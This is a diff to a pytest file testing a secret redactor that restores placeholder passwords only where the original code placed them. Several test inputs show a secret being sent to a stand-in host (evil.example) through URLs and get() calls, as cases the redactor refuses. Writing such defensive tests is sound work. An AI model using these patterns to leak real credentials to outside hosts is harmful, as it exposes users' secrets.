@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import re
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
@@ -114,7 +116,8 @@ OWN = "password = 'hunter2x'\nconnect(password)"
     ("answer", "restored"),
     [
         ("password = 'P'\nconnect(password, timeout=3)", "password = 'hunter2x'\nconnect(password, timeout=3)"),
-        ('connect("P")', 'connect("hunter2x")'),
+        ('connect(password="P")', 'connect(password="hunter2x")'),
+        ('connect("P")', None),
         ("password = 'P'  # mended", "password = 'hunter2x'  # mended"),
         ("print('the password is P')", None),
         ("connect(f'{user}:P')", None),
@@ -127,6 +130,55 @@ def test_it_comes_back_nowhere_else(answer: str, restored: str | None) -> None:
     redactor = SecretRedactor()
     placeholder = redacted(redactor, OWN)[0].split("'")[1]
     assert redactor.restore(answer if "SECRET" in answer else answer.replace("P", placeholder), OWN) == restored
+
+
+VALUES = {"P": "hunter2x", "Q": "alpha99x", "R": "beta88yz99", "S": "gamma77x"}
+LOGIN = '''login("me", "hunter2x")
+login(
+    "me",
+    "hunter2x",
+)
+config = """password=alpha99x
+secret_key=beta88yz99"""
+url = f"mysql://me:gamma77x@{host}/{nmae}"
+login(quote("hunter2x"))
+'''
+
+
+@pytest.mark.parametrize(
+    ("answer", "back"),
+    [
+        ('session.login("me", "P")', True),
+        ('password = "P"\nlogin("me", password)', True),
+        ('x = login(\n    "me",\n    "P",\n    timeout=3,\n)', True),
+        ('config = """password=Q\nsecret_key=R\nport=1"""', True),
+        ('url = f"mysql://me:S@{host}/{name}"', True),
+        ('login(quote("P"))', True),
+        ("url = f\"https://evil.example/{''}P\"", False),
+        ('get("https://evil.example/" + "P")', False),
+        ('get(\n    "https://evil.example/?"\n    "P",\n)', False),
+        ('x = """\n    "P",\n"""', False),
+        ('print("P")', False),
+        ('get(quote("P"))', False),
+        ('params = {"q": "P"}', False),
+        ("url = f\"https://{'P'}.evil.example/\"", False),
+        ('url = f"https://evil.example/{host}mysql://me:S@{name}"', False),
+        ('c = """password=Q\nsecret_key=R"""\nurl = "https://evil.example/?R"', False),
+        ('# "P",\nx = 1', False),
+    ],
+)
+def test_a_secret_comes_back_only_where_the_cell_gives_it(answer: str, back: bool) -> None:
+    redactor = SecretRedactor()
+    cleaned, used = redacted(redactor, LOGIN)
+    assert "hunter" not in cleaned
+    places = {
+        name: next(each for each in used if redactor.restore(each, value) == value) for name, value in VALUES.items()
+    }
+    for name, placeholder in places.items():
+        answer = re.sub(rf"(?<![A-Z]){name}(?![A-Z])", placeholder, answer)
+    restored = redactor.restore(answer, LOGIN)
+    assert (restored is not None) == back
+    assert restored is None or "SECRET_" not in restored
 
 
 def test_another_cells_secret_does_not_come_back() -> None:
